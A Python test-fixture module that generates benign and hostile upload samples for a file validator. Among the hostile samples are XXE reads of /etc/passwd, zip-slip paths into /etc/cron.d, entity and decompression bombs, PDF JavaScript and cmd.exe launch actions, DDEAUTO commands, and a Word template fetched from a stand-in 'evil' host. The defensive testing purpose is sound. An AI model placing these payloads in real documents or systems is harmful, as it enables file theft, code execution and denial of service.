"""Files as they are sent: good ones of every kind, and those that want to do harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from openpyxl import Workbook

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
BODY = '<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body>{}</w:body></w:document>'
RELS = '<?xml version="1.0"?><Relationships xmlns="urn:r">{}</Relationships>'
Parts = dict[str, bytes | str]


def archive(parts: Parts, kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these parts, the same to the byte whenever it is made."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", kind) as out:
        for name, content in parts.items():
            out.writestr(zipfile.ZipInfo(name), content, kind)
    return file.getvalue()


def docx(more: Parts | None = None, text: str = "正文") -> bytes:
    """A Word file, with parts added or put in place of others."""
    own: Parts = {
        "[Content_Types].xml": TYPES, "word/document.xml": BODY.format(text),
        "_rels/.rels": RELS.format(""),
    }  # fmt: skip
    return archive({**own, **(more or {})})


def xlsx() -> bytes:
    """A workbook as openpyxl writes it."""
    book, file = Workbook(), io.BytesIO()
    book.active.append(["编号", "内容"])
    book.save(file)
    return file.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int = 2,
    height: int = 2,
    more: bytes = b"",
    pixels: bytes | None = None,
    end: bytes = b"",
) -> bytes:
    """A picture in PNG, with chunks added after its header and bytes after its end."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = (b"\0" + b"\1\2\3" * min(width, 4)) * min(height, 4) if pixels is None else pixels
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + more
        + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"") + end
    )  # fmt: skip


def segment(mark: int, data: bytes) -> bytes:
    """A segment of a JPEG."""
    return bytes((0xFF, mark)) + struct.pack(">H", len(data) + 2) + data


GPS = b"Exif\0\0GPS 30.2741,120.1551 SECRETPLACE"


def jpeg(width: int = 8, height: int = 8, end: bytes = b"") -> bytes:
    """A picture in JPEG that tells where it was taken."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8" + segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0") + segment(0xE1, GPS)
        + segment(0xFE, b"SECRETPLACE") + segment(0xDB, bytes(65)) + segment(0xC0, frame)
        + segment(0xC4, bytes(20)) + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x12\xff\x00\x34\xff\xd0\x56" + b"\xff\xd9" + end
    )  # fmt: skip


def pdf(inside: bytes = b"", end: bytes = b"") -> bytes:
    """A PDF with something in its catalogue."""
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + inside + b" >>\nendobj\n%%EOF\n" + end


def packed_pdf(text: bytes) -> bytes:
    """A PDF whose objects are packed together."""
    data = zlib.compress(text)
    head = b"\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
    return b"%PDF-1.7" + head + data + b"\nendstream\nendobj\n%%EOF\n"


def relation(kind: str, target: str) -> Parts:
    """Relations of a Word file to something outside it."""
    one = f'<Relationship Type="urn:x/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": RELS.format(one)}


def lying() -> bytes:
    """An archive whose part says that it is small."""
    data = bytearray(docx({"word/a.xml": BODY.format("x" * 3_000_000)}))
    size = struct.pack("<I", len(BODY.format("x" * 3_000_000).encode()))
    assert size in data
    return bytes(data.replace(size, struct.pack("<I", 10)))


def encrypted() -> bytes:
    """An archive that says that its parts are encrypted."""
    data = bytearray(docx())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


NESTED = archive({"inner.xml": "x"})
LAUGHTER = (
    "<!DOCTYPE l ["
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    + '<!ENTITY l0 "ha">]><l>&l8;</l>'
)
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'

#: What is taken, by the name it comes under.
GOOD: dict[str, Callable[[], bytes]] = {
    "合同.pdf": pdf, "packed.pdf": lambda: packed_pdf(b"1 0 2 12 << /Type /Page >>"),
    "照片.png": png, "photo.jpg": jpeg, "photo.JPEG": jpeg, "来信.docx": docx, "名单.xlsx": xlsx,
    "说明.txt": "电梯坏了".encode, "gbk.txt": lambda: "电梯坏了".encode("gbk"),
    "list.csv": lambda: b"a,b\n1,2\n",
    "link.docx": lambda: docx(relation("hyperlink", "https://example.org/")),
}  # fmt: skip

#: What is not taken, by the name it comes under; two that begin alike differ in their number.
BAD: dict[str, Callable[[], bytes]] = {
    "empty.txt": lambda: b"",
    "program.pdf": lambda: b"MZ\x90\0" + b"\0" * 100,
    "program.txt": lambda: b"\x7fELF" + b"\0" * 100,
    "gif.png": lambda: b"GIF89a" + b"\0" * 30,
    "picture.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg.txt": lambda: b'  <svg onload="alert(1)"/>',
    "page.txt": lambda: b"hello <script>alert(1)</script>",
    "page2.txt": lambda: b"<!DOCTYPE html><p>",
    "xml.txt": XXE.encode,
    "utf16.csv": lambda: "a,b\n".encode("utf-16"),
    "nul.txt": lambda: b"a\0b",
    "escape.txt": lambda: b"\x1b]0;x\x07",
    "old.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "old.docx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "end.png": pdf, "end.txt": jpeg, "end.exe": pdf, "end": pdf, "end.pdf.exe": pdf,
    "end.docx": xlsx,
    "js.pdf": lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "hidden.pdf": lambda: pdf(b"/OpenAction << /S /J#61vaScript >>"),
    "launch.pdf": lambda: pdf(b"/A << /S /Launch /F (cmd.exe) >>"),
    "embedded.pdf": lambda: pdf(b"/Names << /EmbeddedFiles 3 0 R >>"),
    "remote.pdf": lambda: pdf(b"/A << /S /GoToR /F (\\\\evil\\x) >>"),
    "form.pdf": lambda: pdf(b"/AcroForm << /XFA 4 0 R >>"),
    "secret.pdf": lambda: pdf(b"/Encrypt 5 0 R"),
    "packedjs.pdf": lambda: packed_pdf(b"1 0 << /S /JavaScript /JS (x) >>"),
    "packedbomb.pdf": lambda: packed_pdf(b"\0" * 20_000_000),
    "half.pdf": lambda: b"%PDF-1.7\n1 0 obj",
    "tail.pdf": lambda: pdf(end=b"<script>alert(1)</script>"),
    "zip.pdf": lambda: pdf(end=NESTED),
    "page.pdf": lambda: b"%PDF-1.7\n<html><script>1</script>\n%%EOF\n",
    "macro.docx": lambda: docx({"word/vbaProject.bin": b"x"}),
    "macro2.docx": lambda: docx({"[Content_Types].xml": TYPES.replace('xml"/>',
                                 'vnd.ms-word.document.macroEnabled.main+xml"/>')}),
    "ole.docx": lambda: docx({"word/embeddings/oleObject1.bin": b"x"}),
    "hiddenole.docx": lambda: docx({"word/media/a.png": b"\xd0\xcf\x11\xe0" + b"x" * 90}),
    "activex.docx": lambda: docx({"word/activeX/activeX1.xml": "<a/>"}),
    "svg.docx": lambda: docx({"word/media/a.svg": "<svg/>"}),
    "template.docx": lambda: docx(relation("attachedTemplate", "http://evil/t.dotm")),
    "image.docx": lambda: docx(relation("image", "file:///etc/passwd")),
    "link.docx": lambda: docx(relation("hyperlink", "file://evil/x")),
    "dde.docx": lambda: docx(text="<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
    "include.docx": lambda: docx(text="<w:instrText>INCLUDETEXT /etc/passwd</w:instrText>"),
    "xxe.docx": lambda: docx({"word/styles.xml": XXE}),
    "xxe16.docx": lambda: docx({"word/styles.xml": XXE.encode("utf-16")}),
    "laughter.docx": lambda: docx({"word/styles.xml": LAUGHTER}),
    "deep.docx": lambda: docx(text="<a>" * 5000 + "</a>" * 5000),
    "broken.docx": lambda: docx(text="<a>"),
    "bomb.docx": lambda: docx({"word/a.xml": b"\0" * 60_000_000}),
    "ratio.docx": lambda: docx({"word/a.xml": BODY.format("x" * 20_000_000)}),
    "many.docx": lambda: docx({f"word/{n}.xml": "<a/>" for n in range(2001)}),
    "lying.docx": lying,
    "encrypted.docx": encrypted,
    "nested.docx": lambda: docx({"word/a.dat": NESTED}),
    "slip.docx": lambda: docx({"../../etc/cron.d/x": "x"}),
    "absolute.docx": lambda: docx({"/etc/x": "x"}),
    "drive.docx": lambda: docx({"C:\\x": "x"}),
    "before.docx": lambda: b"PK\x03\x04junk" + docx(),
    "after.docx": lambda: docx() + b"<script>1</script>",
    "any.zip": lambda: NESTED,
    "zip.docx": lambda: NESTED,
    "half.docx": lambda: docx()[:-30],
    "truncated.docx": lambda: b"PK\x03\x04",
    "flood.png": lambda: png(20_000, 20_000),
    "wide.png": lambda: png(2_000_000, 1),
    "nothing.png": lambda: png(0, 5),
    "bomb.png": lambda: png(pixels=b"\0" * 30_000_000),
    "sum.png": lambda: png().replace(b"IHDR\0", b"IHDR\1", 1),
    "half.png": lambda: png()[:-20],
    "flood.jpg": lambda: jpeg(60_000, 60_000),
    "half.jpg": lambda: jpeg()[:-2],
    "nothing.jpg": lambda: b"\xff\xd8\xff\xd9",
}  # fmt: skip
